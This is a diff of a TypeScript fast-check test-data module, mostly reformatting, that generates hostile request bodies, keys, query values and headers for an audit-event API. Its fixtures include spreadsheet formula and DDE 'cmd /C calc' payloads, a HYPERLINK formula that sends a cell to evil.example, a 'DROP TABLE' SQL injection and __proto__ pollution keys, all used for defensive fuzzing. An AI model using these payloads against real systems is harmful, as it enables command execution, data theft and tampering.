@@ -19,15 +19,49 @@ export const FORMULAS = [
   '=HYPERLINK("http://evil.example/?x="&A1,"click")',
   '+1+1',
   '-2+3',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '\t=1+1',
   '\r=1+1',
   '=1\n=2',
   '＝1+1',
-  "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
+  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
 ];
-export const NAN_ISH = ['NaN', 'Infinity', '-Infinity', '-0', '0', '1e999', '-1e999', '0x1F', '1_000', ' 5 ', '', ' ', 'null', 'undefined', 'true', 'false', '[object Object]', '9007199254740993', '1e21', '.5', '5.', '+5', '٣'];
-export const PROTO_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', '__defineGetter__', '__lookupGetter__', 'isPrototypeOf'];
+export const NAN_ISH = [
+  'NaN',
+  'Infinity',
+  '-Infinity',
+  '-0',
+  '0',
+  '1e999',
+  '-1e999',
+  '0x1F',
+  '1_000',
+  ' 5 ',
+  '',
+  ' ',
+  'null',
+  'undefined',
+  'true',
+  'false',
+  '[object Object]',
+  '9007199254740993',
+  '1e21',
+  '.5',
+  '5.',
+  '+5',
+  '٣',
+];
+export const PROTO_KEYS = [
+  '__proto__',
+  'constructor',
+  'prototype',
+  'toString',
+  'valueOf',
+  'hasOwnProperty',
+  '__defineGetter__',
+  '__lookupGetter__',
+  'isPrototypeOf',
+];
 const INJECTIONS = [
   "'; DROP TABLE audit_events; --",
   '" OR 1=1 --',
@@ -78,7 +112,10 @@ export const hostileString: fc.Arbitrary<string> = fc.oneof(
   { arbitrary: fc.string({ maxLength: 30 }), weight: 2 },
   {
     arbitrary: fc
-      .tuple(fc.constantFrom(199, 200, 201, 500, 501, 2000, 65_535, 65_536, 65_537, 100_000), fc.constantFrom('x', 'é', '中', '😀', ' ', '=', '\u0000'))
+      .tuple(
+        fc.constantFrom(199, 200, 201, 500, 501, 2000, 65_535, 65_536, 65_537, 100_000),
+        fc.constantFrom('x', 'é', '中', '😀', ' ', '=', '\u0000'),
+      )
       .map(([n, c]) => c.repeat(Math.max(1, Math.floor(n / c.length)))),
     weight: 1,
   },
@@ -98,7 +135,23 @@ export const shortHostileString: fc.Arbitrary<string> = fc.oneof(
 export const hostileKey: fc.Arbitrary<string> = fc.oneof(
   { arbitrary: fc.constantFrom(...PROTO_KEYS), weight: 3 },
   { arbitrary: shortHostileString, weight: 3 },
-  { arbitrary: fc.constantFrom('changeId', 'objectType', 'objectId', 'action', 'elements', 'before', 'after', 'changes', 'name', 'scopes', 'id', 'polluted'), weight: 2 },
+  {
+    arbitrary: fc.constantFrom(
+      'changeId',
+      'objectType',
+      'objectId',
+      'action',
+      'elements',
+      'before',
+      'after',
+      'changes',
+      'name',
+      'scopes',
+      'id',
+      'polluted',
+    ),
+    weight: 2,
+  },
 );
 
 /** Text the Worker stores as sent: hostile, but well-formed Unicode. */
@@ -167,8 +220,9 @@ export const deepMarker = (depth: number, kind: 'array' | 'object' | 'mixed') =>
 
 /** JSON text of a generated body, with deep placeholders expanded. */
 export function serialize(value: unknown): string {
-  return (JSON.stringify(value) ?? 'null').replace(/"\\u0002deep:(\d+):(\w+)\\u0002"/g, (_, depth: string, kind: 'array' | 'object' | 'mixed') =>
-    deepJsonText(Number(depth), kind),
+  return (JSON.stringify(value) ?? 'null').replace(
+    /"\\u0002deep:(\d+):(\w+)\\u0002"/g,
+    (_, depth: string, kind: 'array' | 'object' | 'mixed') => deepJsonText(Number(depth), kind),
   );
 }
 
@@ -182,7 +236,11 @@ export const deepJson = fc
 /** Characters an Identifier may hold (no whitespace, no control characters). */
 const ID_CHARS = [...'abcxyzABCXYZ0123456789-_.:=+@~!$%&*()[]{}|;,<>?/\\\'"`^#', 'é', 'ß', '中', '😀', '\u200b', '\u202e', '𝕏'];
 export const validIdentifier = fc.string({ unit: fc.constantFrom(...ID_CHARS), minLength: 1, maxLength: 24 });
-const validIdLike: fc.Arbitrary<string | number> = fc.oneof(validIdentifier, fc.nat({ max: 2 ** 40 }), fc.constantFrom('=1+1', '@x', '-1', '4711'));
+const validIdLike: fc.Arbitrary<string | number> = fc.oneof(
+  validIdentifier,
+  fc.nat({ max: 2 ** 40 }),
+  fc.constantFrom('=1+1', '@x', '-1', '4711'),
+);
 
 /** Storable text that stays the same through zod's .trim() and is 1..max characters long. */
 const validText = (max: number) =>
@@ -296,9 +354,21 @@ export interface Mutation {
 }
 
 const REQUIRED = ['changeId', 'objectType', 'objectId', 'action', 'originator'] as const;
-const FIELDS = ['changeId', 'objectType', 'objectId', 'objectName', 'action', 'originator', 'occurredAt', 'elements', 'before', 'after'] as const;
+const FIELDS = [
+  'changeId',
+  'objectType',
+  'objectId',
+  'objectName',
+  'action',
+  'originator',
+  'occurredAt',
+  'elements',
+  'before',
+  'after',
+] as const;
 
-const set = (key: string, value: unknown) => (c: ChangeBody) => Object.fromEntries([...Object.entries(c).filter(([k]) => k !== key), [key, value]]) as ChangeBody;
+const set = (key: string, value: unknown) => (c: ChangeBody) =>
+  Object.fromEntries([...Object.entries(c).filter(([k]) => k !== key), [key, value]]) as ChangeBody;
 const without = (key: string) => (c: ChangeBody) => Object.fromEntries(Object.entries(c).filter(([k]) => k !== key)) as ChangeBody;
 
 /** Places in a JSON value, in document order: string values, object keys, objects. */
@@ -308,11 +378,18 @@ function countSites(value: unknown, site: Site): number {
   if (Array.isArray(value)) return value.reduce((n: number, item) => n + countSites(item, site), 0);
   if (value === null || typeof value !== 'object') return 0;
   const entries = Object.entries(value);
-  return (site === 'object' ? 1 : 0) + (site === 'key' ? entries.length : 0) + entries.reduce((n, [, item]) => n + countSites(item, site), 0);
+  return (
+    (site === 'object' ? 1 : 0) + (site === 'key' ? entries.length : 0) + entries.reduce((n, [, item]) => n + countSites(item, site), 0)
+  );
 }
 /** A copy of `value` with the `n`-th site (modulo their number) edited; objects are rebuilt
  *  with Object.fromEntries, so an added "__proto__" is an own key, as JSON.parse makes it. */
-function editSite(value: unknown, site: Site, n: number, edit: { text?: (s: string) => string; entries?: (e: [string, unknown][]) => [string, unknown][] }): unknown {
+function editSite(
+  value: unknown,
+  site: Site,
+  n: number,
+  edit: { text?: (s: string) => string; entries?: (e: [string, unknown][]) => [string, unknown][] },
+): unknown {
   let i = 0;
   const target = n % Math.max(1, countSites(value, site));
   const walk = (v: unknown): unknown => {
@@ -320,7 +397,10 @@ function editSite(value: unknown, site: Site, n: number, edit: { text?: (s: stri
     if (Array.isArray(v)) return v.map(walk);
     if (v === null || typeof v !== 'object') return v;
     const hit = site === 'object' && i++ === target;
-    const entries = Object.entries(v).map(([k, item]): [string, unknown] => [site === 'key' && i++ === target ? edit.text!(k) : k, walk(item)]);
+    const entries = Object.entries(v).map(([k, item]): [string, unknown] => [
+      site === 'key' && i++ === target ? edit.text!(k) : k,
+      walk(item),
+    ]);
     return Object.fromEntries(hit ? edit.entries!(entries) : entries);
   };
   return walk(value);
@@ -344,23 +424,32 @@ const unstorableMutation: fc.Arbitrary<Mutation> = fc.oneof(
     verdict: 'invalid',
     apply: (c) => editSite(c, 'key', n, { text: (k) => insertAt(k, at, lone) }) as ChangeBody,
   })),
-  fc.tuple(fc.nat(), fc.boolean(), fc.constantFrom<unknown>({ polluted: 'yes' }, { isAdmin: true }, 'x', null, [1])).map(([n, first, value]): Mutation => ({
-    what: `a key "__proto__" in object #${n}`,
-    verdict: 'invalid',
-    apply: (c) =>
-      editSite(c, 'object', n, { entries: (entries) => (first ? [['__proto__', value], ...entries] : [...entries, ['__proto__', value]]) }) as ChangeBody,
-  })),
+  fc
+    .tuple(fc.nat(), fc.boolean(), fc.constantFrom<unknown>({ polluted: 'yes' }, { isAdmin: true }, 'x', null, [1]))
+    .map(([n, first, value]): Mutation => ({
+      what: `a key "__proto__" in object #${n}`,
+      verdict: 'invalid',
+      apply: (c) =>
+        editSite(c, 'object', n, {
+          entries: (entries) => (first ? [['__proto__', value], ...entries] : [...entries, ['__proto__', value]]),
+        }) as ChangeBody,
+    })),
 );
 
 /** One mutation of a valid change: a field removed, replaced, added or broken. */
 export const mutation: fc.Arbitrary<Mutation> = fc.oneof(
   fc.constantFrom(...REQUIRED).map((key): Mutation => ({ what: `remove ${key}`, verdict: 'invalid', apply: without(key) })),
   fc
-    .tuple(hostileKey.filter((k) => !(FIELDS as readonly string[]).includes(k)), hostileJson)
+    .tuple(
+      hostileKey.filter((k) => !(FIELDS as readonly string[]).includes(k)),
+      hostileJson,
+    )
     .map(([key, value]): Mutation => ({ what: `add unknown key ${JSON.stringify(key)}`, verdict: 'invalid', apply: set(key, value) })),
-  fc
-    .tuple(fc.constantFrom(...FIELDS), hostileJson)
-    .map(([key, value]): Mutation => ({ what: `set ${key} to ${JSON.stringify(value)?.slice(0, 80)}`, verdict: 'unknown', apply: set(key, value) })),
+  fc.tuple(fc.constantFrom(...FIELDS), hostileJson).map(([key, value]): Mutation => ({
+    what: `set ${key} to ${JSON.stringify(value)?.slice(0, 80)}`,
+    verdict: 'unknown',
+    apply: set(key, value),
+  })),
   fc
     .tuple(fc.constantFrom('objectType', 'action'), shortHostileString)
     .filter(([, value]) => !(OBJECT_TYPES as readonly string[]).includes(value) && !(ACTIONS as readonly string[]).includes(value))
@@ -406,25 +495,39 @@ export const mutation: fc.Arbitrary<Mutation> = fc.oneof(
       ['occurredAt', 'yesterday'],
       ['occurredAt', 1_767_225_600_000],
     )
-    .map(([key, value]): Mutation => ({ what: `set ${key} to an invalid ${JSON.stringify(value).slice(0, 60)}`, verdict: 'invalid', apply: set(key as string, value) })),
+    .map(([key, value]): Mutation => ({
+      what: `set ${key} to an invalid ${JSON.stringify(value).slice(0, 60)}`,
+      verdict: 'invalid',
+      apply: set(key as string, value),
+    })),
   fc.constant<Mutation>({
     what: 'elements and snapshots together',
     verdict: 'invalid',
     apply: (c) => ({ ...c, elements: [{ element: 'x', newValue: 'y' }], before: { a: 1 }, after: { a: 2 } }),
   }),
-  fc.constant<Mutation>({ what: 'neither elements nor snapshots', verdict: 'invalid', apply: (c) => without('after')(without('before')(without('elements')(c))) }),
-  fc.constant<Mutation>({ what: 'add with a before snapshot', verdict: 'invalid', apply: (c) => ({ ...without('elements')(c), action: 'add', before: { a: 1 }, after: { a: 2 } }) }),
-  fc.constant<Mutation>({ what: 'delete with an after snapshot', verdict: 'invalid', apply: (c) => ({ ...without('elements')(c), action: 'delete', before: { a: 1 }, after: { a: 2 } }) }),
-  fc
-    .tuple(deepJson, fc.constantFrom('elements', 'after'))
-    .map(([deep, where]): Mutation => ({
-      what: `a value nested ${deep.depth} levels deep (${deep.kind}) in ${where}`,
-      verdict: 'unknown',
-      apply: (c) =>
-        where === 'elements'
-          ? { ...without('before')(without('after')(c)), elements: [{ element: 'Deep', newValue: deepMarker(deep.depth, deep.kind) }] }
-          : { ...without('elements')(c), action: 'edit', before: { a: 1 }, after: { deep: deepMarker(deep.depth, deep.kind) } },
-    })),
+  fc.constant<Mutation>({
+    what: 'neither elements nor snapshots',
+    verdict: 'invalid',
+    apply: (c) => without('after')(without('before')(without('elements')(c))),
+  }),
+  fc.constant<Mutation>({
+    what: 'add with a before snapshot',
+    verdict: 'invalid',
+    apply: (c) => ({ ...without('elements')(c), action: 'add', before: { a: 1 }, after: { a: 2 } }),
+  }),
+  fc.constant<Mutation>({
+    what: 'delete with an after snapshot',
+    verdict: 'invalid',
+    apply: (c) => ({ ...without('elements')(c), action: 'delete', before: { a: 1 }, after: { a: 2 } }),
+  }),
+  fc.tuple(deepJson, fc.constantFrom('elements', 'after')).map(([deep, where]): Mutation => ({
+    what: `a value nested ${deep.depth} levels deep (${deep.kind}) in ${where}`,
+    verdict: 'unknown',
+    apply: (c) =>
+      where === 'elements'
+        ? { ...without('before')(without('after')(c)), elements: [{ element: 'Deep', newValue: deepMarker(deep.depth, deep.kind) }] }
+        : { ...without('elements')(c), action: 'edit', before: { a: 1 }, after: { deep: deepMarker(deep.depth, deep.kind) } },
+  })),
   unstorableMutation,
   unstorableMutation,
 );
@@ -444,11 +547,19 @@ const utf8 = new TextEncoder();
 export const nonUtf8Body: fc.Arbitrary<RawBody> = fc.oneof(
   fc.uint8Array({ minLength: 1, maxLength: 64 }).map((bytes) => ({ kind: 'random bytes', body: bytes })),
   fc
-    .tuple(fc.constantFrom([0xff], [0xfe, 0xff], [0xc0, 0x80], [0xed, 0xa0, 0x80], [0xf4, 0x90, 0x80, 0x80], [0x80], [0xe2, 0x82]), fc.nat({ max: 20 }))
+    .tuple(
+      fc.constantFrom([0xff], [0xfe, 0xff], [0xc0, 0x80], [0xed, 0xa0, 0x80], [0xf4, 0x90, 0x80, 0x80], [0x80], [0xe2, 0x82]),
+      fc.nat({ max: 20 }),
+    )
     .map(([bad, at]) => {
-      const text = utf8.encode('{"changeId":"x","objectType":"user","objectId":"1","action":"edit","originator":{"id":"1","name":"A"},"elements":[{"element":"n","newValue":"v"}]}');
+      const text = utf8.encode(
+        '{"changeId":"x","objectType":"user","objectId":"1","action":"edit","originator":{"id":"1","name":"A"},"elements":[{"element":"n","newValue":"v"}]}',
+      );
       const pos = Math.min(text.length - 1, 40 + at);
-      return { kind: `invalid UTF-8 ${bad.map((b) => b.toString(16)).join(' ')} inside JSON`, body: new Uint8Array([...text.slice(0, pos), ...bad, ...text.slice(pos)]) };
+      return {
+        kind: `invalid UTF-8 ${bad.map((b) => b.toString(16)).join(' ')} inside JSON`,
+        body: new Uint8Array([...text.slice(0, pos), ...bad, ...text.slice(pos)]),
+      };
     }),
   fc.constant({ kind: 'UTF-16LE JSON', body: new Uint8Array([0xff, 0xfe, 0x7b, 0x00, 0x7d, 0x00]) }),
   fc.constant({ kind: 'NUL bytes', body: new Uint8Array([0x7b, 0x00, 0x7d]) }),
@@ -504,9 +615,15 @@ export const oddJsonText: fc.Arbitrary<RawBody> = fc
   )
   .map((text) => ({ kind: 'odd JSON text', body: text }));
 
-export const randomJsonBody: fc.Arbitrary<RawBody> = hostileJson.map((value) => ({ kind: 'random JSON', body: JSON.stringify(value) ?? 'null' }));
+export const randomJsonBody: fc.Arbitrary<RawBody> = hostileJson.map((value) => ({
+  kind: 'random JSON',
+  body: JSON.stringify(value) ?? 'null',
+}));
 
-export const deepBody: fc.Arbitrary<RawBody> = deepJson.map(({ depth, kind, text }) => ({ kind: `nested ${depth} deep (${kind})`, body: text }));
+export const deepBody: fc.Arbitrary<RawBody> = deepJson.map(({ depth, kind, text }) => ({
+  kind: `nested ${depth} deep (${kind})`,
+  body: text,
+}));
 
 // ---------------------------------------------------------------------------------------
 // Query strings, cursors, headers, paths
@@ -519,7 +636,9 @@ export function encodeComponent(text: string): string {
   for (const point of text) {
     const unit = point.charCodeAt(0);
     if (point.length === 1 && unit >= 0xd800 && unit <= 0xdfff) {
-      out += [0xe0 | (unit >> 12), 0x80 | ((unit >> 6) & 0x3f), 0x80 | (unit & 0x3f)].map((b) => `%${b.toString(16).toUpperCase()}`).join('');
+      out += [0xe0 | (unit >> 12), 0x80 | ((unit >> 6) & 0x3f), 0x80 | (unit & 0x3f)]
+        .map((b) => `%${b.toString(16).toUpperCase()}`)
+        .join('');
     } else out += encodeURIComponent(point);
   }
   return out;
@@ -537,7 +656,10 @@ export function encodeQueryPart(text: string, how: 'encode' | 'raw' | 'plus'): s
 /** Hostile values for a query parameter that the routes know. */
 export const hostileQueryValue: fc.Arbitrary<string> = fc.oneof(
   { arbitrary: shortHostileString, weight: 4 },
-  { arbitrary: fc.constantFrom(...NAN_ISH, '1', '50', '500', '501', '0', '-1', '1e2', '0x10', '2.5', '1e308', '9007199254740993'), weight: 3 },
+  {
+    arbitrary: fc.constantFrom(...NAN_ISH, '1', '50', '500', '501', '0', '-1', '1e2', '0x10', '2.5', '1e308', '9007199254740993'),
+    weight: 3,
+  },
   {
     arbitrary: fc.constantFrom(
       '2026-11-26',
@@ -586,13 +708,16 @@ export const hostileQueryValue: fc.Arbitrary<string> = fc.oneof(
 
 /** Cursor-shaped garbage: right alphabet, wrong content. */
 export const randomCursor: fc.Arbitrary<string> = fc.oneof(
-  fc.tuple(fc.base64String({ maxLength: 40 }), fc.base64String({ maxLength: 60 })).map(([a, b]) => `${a}.${b}`.replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '')),
+  fc
+    .tuple(fc.base64String({ maxLength: 40 }), fc.base64String({ maxLength: 60 }))
+    .map(([a, b]) => `${a}.${b}`.replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '')),
   fc.constantFrom('.', 'a.', '.b', 'a.b', '..', 'e30.', 'eyJvIjowLCJzIjowfQ.AAAA', 'eyJpIjoxfQ.x', 'null', '', '%', 'A'.repeat(2001)),
   shortHostileString,
 );
 
 /** How a real cursor is damaged. */
-export type CursorDamage = { kind: 'truncate'; at: number } | { kind: 'flip'; at: number; bit: number } | { kind: 'swap-halves' } | { kind: 'append'; text: string };
+export type CursorDamage =
+  { kind: 'truncate'; at: number } | { kind: 'flip'; at: number; bit: number } | { kind: 'swap-halves' } | { kind: 'append'; text: string };
 export const cursorDamage: fc.Arbitrary<CursorDamage> = fc.oneof(
   fc.nat({ max: 200 }).map((at) => ({ kind: 'truncate' as const, at })),
   fc.tuple(fc.nat({ max: 200 }), fc.nat({ max: 5 })).map(([at, bit]) => ({ kind: 'flip' as const, at, bit })),
@@ -689,8 +814,34 @@ export const contentLength = fc.option(
 /** Extra headers a client or proxy might add. */
 export const extraHeaders = fc.array(
   fc.tuple(
-    fc.constantFrom('X-Forwarded-For', 'Origin', 'Accept', 'Accept-Encoding', 'X-HTTP-Method-Override', 'Cookie', 'If-None-Match', 'Range', 'X-Requested-With', 'Access-Control-Request-Method', 'Expect'),
-    fc.constantFrom('*', '127.0.0.1', 'https://evil.example', 'application/xml', 'gzip, br', 'DELETE', 'session=x', '"etag"', 'bytes=0-10', 'XMLHttpRequest', 'POST', '100-continue', ''),
+    fc.constantFrom(
+      'X-Forwarded-For',
+      'Origin',
+      'Accept',
+      'Accept-Encoding',
+      'X-HTTP-Method-Override',
+      'Cookie',
+      'If-None-Match',
+      'Range',
+      'X-Requested-With',
+      'Access-Control-Request-Method',
+      'Expect',
+    ),
+    fc.constantFrom(
+      '*',
+      '127.0.0.1',
+      'https://evil.example',
+      'application/xml',
+      'gzip, br',
+      'DELETE',
+      'session=x',
+      '"etag"',
+      'bytes=0-10',
+      'XMLHttpRequest',
+      'POST',
+      '100-continue',
+      '',
+    ),
   ),
   { maxLength: 3 },
 );
@@ -806,9 +957,17 @@ export interface FieldError {
  *  number beyond double range, which JSON.parse made ±Infinity (named by its pointer).
  *  The root is "/". Only for bodies within MAX_JSON_DEPTH (it recurses). */
 export function unstorableText(value: unknown, path = ''): FieldError[] {
-  if (typeof value === 'string') return value.isWellFormed() ? [] : [{ path: path || '/', message: 'contains a lone UTF-16 surrogate (not valid Unicode text)' }];
+  if (typeof value === 'string')
+    return value.isWellFormed() ? [] : [{ path: path || '/', message: 'contains a lone UTF-16 surrogate (not valid Unicode text)' }];
   if (typeof value === 'number')
-    return Number.isFinite(value) ? [] : [{ path: path || '/', message: 'is a number beyond what can be stored (an IEEE 754 double, at most about ±1.8e308); send it as a string' }];
+    return Number.isFinite(value)
+      ? []
+      : [
+          {
+            path: path || '/',
+            message: 'is a number beyond what can be stored (an IEEE 754 double, at most about ±1.8e308); send it as a string',
+          },
+        ];
   if (Array.isArray(value)) return value.flatMap((item, i) => unstorableText(item, `${path}/${i}`));
   if (value === null || typeof value !== 'object') return [];
   return Object.entries(value).flatMap(([key, item]) => {
@@ -828,13 +987,18 @@ export function namesUnstorableText(actual: FieldError[] | undefined, expected: 
   if (!Array.isArray(actual)) return false;
   const same = (a: FieldError, b: FieldError | undefined) => b !== undefined && a.path === b.path && a.message === b.message;
   if (expected.length <= 20) return actual.length === expected.length && actual.every((a, i) => same(a, expected[i]));
-  return actual.length >= 20 && actual.slice(0, 20).every((a, i) => same(a, expected[i])) && actual.every((a) => expected.some((e) => same(a, e)));
+  return (
+    actual.length >= 20 &&
+    actual.slice(0, 20).every((a, i) => same(a, expected[i])) &&
+    actual.every((a) => expected.some((e) => same(a, e)))
+  );
 }
 
 /** Printable, bounded form of anything, for counterexamples. */
 export function brief(value: unknown, max = 300): string {
   let text: string;
-  if (value instanceof Uint8Array) text = `bytes[${value.length}] ${[...value.slice(0, 40)].map((b) => b.toString(16).padStart(2, '0')).join(' ')}`;
+  if (value instanceof Uint8Array)
+    text = `bytes[${value.length}] ${[...value.slice(0, 40)].map((b) => b.toString(16).padStart(2, '0')).join(' ')}`;
   else if (typeof value === 'string') text = JSON.stringify(value);
   else {
     try {
